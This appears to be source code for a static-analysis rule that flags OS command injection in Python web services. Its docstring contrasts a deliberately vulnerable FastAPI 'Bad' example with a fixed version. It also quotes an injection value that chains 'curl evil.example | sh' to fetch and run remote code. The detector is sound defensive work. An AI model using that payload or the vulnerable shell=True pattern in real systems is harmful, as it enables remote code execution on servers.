"""
## What it looks for
A shell command whose text is put together from data.

## Why it matters
`8.8.8.8; curl evil.example | sh` as a host name runs as the server's user.

## Bad
    import subprocess
    from fastapi import FastAPI

    app = FastAPI()

    @app.get("/lookup")
    def lookup(host: str) -> str:
        return subprocess.check_output(f"nslookup {host}", shell=True, text=True)

## Good
    import subprocess
    from typing import Annotated
    from fastapi import Depends, FastAPI, Query
    from shop.accounts import current_user

    app = FastAPI(dependencies=[Depends(current_user)])

    @app.get("/lookup")
    def lookup(host: Annotated[str, Query(pattern=r"^[a-z0-9.-]{1,253}$")]) -> str:
        return subprocess.check_output(["nslookup", "--", host], text=True)

## How it is found
The command of every call that starts a shell (`os.system`, `os.popen`, `shell=True`, `create_subprocess_shell`,
`["sh", "-c", ...]`) is followed back. Text of the request, of another service and of a model is reported; what no source
shows is reported to pedantic readers. Constants, settings, numbers, `shlex.quote` and what was tested are left alone.

## What it cannot see
Commands that a library outside the project runs.

## How to tell the checker
`# fastness: ignore[FN304] the reason` on the line of the call.

## References
OWASP API8:2023, ASVS 1.2.5, CWE-78.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from fastness.checker.evidence.functions import Call
from fastness.checker.evidence.pieces import pieces
from fastness.checker.evidence.project import Project
from fastness.checker.evidence.verified import verified
from fastness.checker.finding import Confidence, Finding, Persona, Severity
from fastness.checker.rule import Rule

_ALWAYS = (
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "create_subprocess_shell",
    "commands.getoutput",
    "popen2.popen2",
)
_MAYBE = ("subprocess.run", "subprocess.call", "subprocess.Popen", "subprocess.check_output", "subprocess.check_call")
_REMOTE = ("exec_command", "exec_run")
_WITH_SCRIPT = 3
"""`sh`, `-c` and the script."""
_SHELL = re.compile(r"(^|/)(ba|z|da|k)?sh$|^cmd(\.exe)?$|^powershell")
CLEANED = frozenset({"quote", "join_command", "list2cmdline"})


class ShellByFormatting(Rule):
    """A shell command made from data."""

    id, name, control, severity = "FN304", "shell-by-formatting", "fields", Severity.CRITICAL
    owasp, asvs, cwe = ("API8:2023",), ("1.2.5",), (78,)
    why = "the caller runs commands as the server's user"
    fix = 'start the program without a shell: subprocess.run(["ping", "-c", "1", "--", host])'

    def read(self, project: Project) -> Iterator[Finding]:
        for call, command in _shells(project):
            asked: set[str] = set()
            other: list[str] = []
            for piece in pieces(project, call.scope, command, CLEANED):
                names = {s.name for s in piece.asked(CLEANED)}
                if names and not verified(project, piece.scope, piece.expr):
                    asked |= names
                elif not names and any(
                    s.kind in {"call", "parameter", "unknown"} and not s.harmless for s in piece.sources
                ):
                    other.append(piece.code)
            if asked:
                yield self.found(
                    call.place,
                    f"the request's {', '.join(sorted(asked))} becomes part of a shell command",
                    subject=call.code,
                )
            elif other:
                yield self.found(
                    call.place,
                    f"{', '.join(other)[:80]} becomes part of a shell command",
                    subject=call.code,
                    severity=Severity.MEDIUM,
                    confidence=Confidence.LOW,
                    persona=Persona.PEDANTIC,
                )


def _shells(project: Project) -> Iterator[tuple[Call, ast.expr]]:
    for call in project.calls(*_ALWAYS, *_MAYBE, *_REMOTE):
        command = call.arg("args", "cmd", "command", 0)
        if command is None or call.target is not None:
            continue
        if call.is_a(*_MAYBE) and not call.value("shell"):
            listed = project.value(call.scope, command)
            script = (
                _script(command)
                if listed.shape == "list" and len(listed.items) == _WITH_SCRIPT and _SHELL.search(listed.items[0].text)
                else None
            )
            if script is not None:
                yield call, script
            continue
        yield call, command


def _script(command: ast.expr) -> ast.expr | None:
    """`["sh", "-c", script]`."""
    if (
        isinstance(command, ast.List)
        and isinstance(command.elts[1], ast.Constant)
        and command.elts[1].value in {"-c", "/c", "-lc", "-Command"}
    ):
        return command.elts[2]
    return None
